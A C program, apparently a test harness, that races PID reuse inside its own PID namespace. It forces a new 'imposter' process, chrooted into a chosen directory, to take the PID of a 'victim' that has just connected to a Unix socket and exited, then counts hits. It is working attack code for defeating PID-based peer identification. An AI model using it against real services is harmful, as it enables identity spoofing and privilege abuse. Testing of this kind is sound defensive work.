/*
 * Attacks by pid reuse, in a pid namespace of its own: a victim connects and
 * ends, and another process is given its number at once. Reads a byte after
 * each round from standard input; writes "i" when an imposter is in place, and
 * at the end "hits N".
 *
 *   pid-reuse SOCKET ROUNDS ROOT
 *
 * ROOT is a directory that the imposter makes its root. Each fourth round the
 * victim ends at once, or after a moment, or twice when it is told to.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static void victim(const struct sockaddr_un *address, int round)
{
	const int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	char byte;

	prctl(PR_SET_NAME, "victim");
	if (setresgid(1000, 1000, 1000) != 0 || setresuid(1000, 1000, 1000) != 0 ||
	    connect(fd, (const struct sockaddr *)address, sizeof(*address)) != 0)
		_exit(1);
	if (round % 4 == 1)
		usleep((useconds_t)(rand() % 1500));
	if (round % 4 >= 2 && read(fd, &byte, 1) < 0)
		_exit(1);
	_exit(0);
}

static void imposter(const char *root)
{
	prctl(PR_SET_NAME, "imposter");
	if (chroot(root) != 0 || write(1, "i", 1) != 1)
		_exit(1);
	for (;;)
		pause();
}

int main(int argc, char **argv)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	const int last = open("/proc/sys/kernel/ns_last_pid", O_WRONLY);
	int hits = 0, status;
	char text[16], byte;

	if (argc != 4 || last < 0 || strlen(argv[1]) >= sizeof(address.sun_path))
		return 2;
	strcpy(address.sun_path, argv[1]);
	for (int round = 0; round < atoi(argv[2]); round++) {
		const pid_t first = fork();
		pid_t second;

		if (first == 0) {
			srand((unsigned)round);
			victim(&address, round);
		}
		if (waitpid(first, &status, 0) != first || status != 0)
			return 3;
		snprintf(text, sizeof(text), "%d", first - 1);
		if (pwrite(last, text, strlen(text), 0) < 0)
			return 4;
		second = fork();
		if (second == 0)
			imposter(argv[3]);
		hits += second == first;
		if (read(0, &byte, 1) != 1)
			return 5;
		kill(second, SIGKILL);
		waitpid(second, &status, 0);
	}
	printf("hits %d\n", hits);
	return 0;
}
